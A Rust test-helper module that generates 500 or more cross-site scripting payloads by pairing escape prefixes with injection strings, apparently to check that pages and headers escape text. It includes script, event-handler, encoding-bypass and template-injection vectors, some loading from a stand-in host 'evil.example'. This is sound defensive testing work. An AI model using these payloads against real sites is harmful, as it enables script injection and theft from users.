//! Texts that become more than texts where a page, a document or a header forgets to escape them.

/// What a text may have to get out of first.
const OPENINGS: &[&str] = &[
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "</p>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "\\\"",
    "&#34;>",
    "%22%3E",
    "</textarea>",
];

/// What it then does: `hit` is what a browser's test listens for.
const ACTS: &[&str] = &[
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script src=//evil.example>",
    "<script/x>hit()</script>",
    "<scr<script>ipt>hit()",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>",
    "<IMG SRC=x ONERROR=hit()>",
    "<img src=\"x\" onerror=\"hit()\">",
    "<img src='x' onerror='hit()'>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<b>x'>",
    "<a href=javascript:hit()>x</a>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<math><mtext><img src onerror=hit()>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>",
    "<style>*{display:none}</style>",
    "<object data=//evil.example>",
    "<template><b>x</b></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<b>x</b>",
    " onfocus=hit() autofocus x=",
    " style=display:none x=",
    "javascript:hit()",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()",
    "+ADw-script+AD4-hit()",
    "＜script＞hit()＜/script＞",
    "<ſcript>hit()</ſcript>",
    "{{hit()}}${hit()}<%=hit()%>",
    "\u{202e}<b>\u{feff}</b>",
];

/// The most characters that a scene may have, so that each of them is shown where scenes are.
const MAX_CHARS: usize = 64;

/// At least 500 of them, each different.
pub(crate) fn payloads() -> Vec<String> {
    let all = OPENINGS
        .iter()
        .flat_map(|opening| ACTS.iter().map(move |act| format!("{opening}{act}")));
    let all: Vec<String> = all
        .filter(|payload| payload.chars().count() <= MAX_CHARS)
        .collect();
    assert!(all.len() >= 500, "there are {}", all.len());
    all
}

/// Every byte of a text as `%HH`, but letters and digits.
pub(crate) fn encoded(text: &str) -> String {
    let piece = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    text.bytes().map(piece).collect()
}
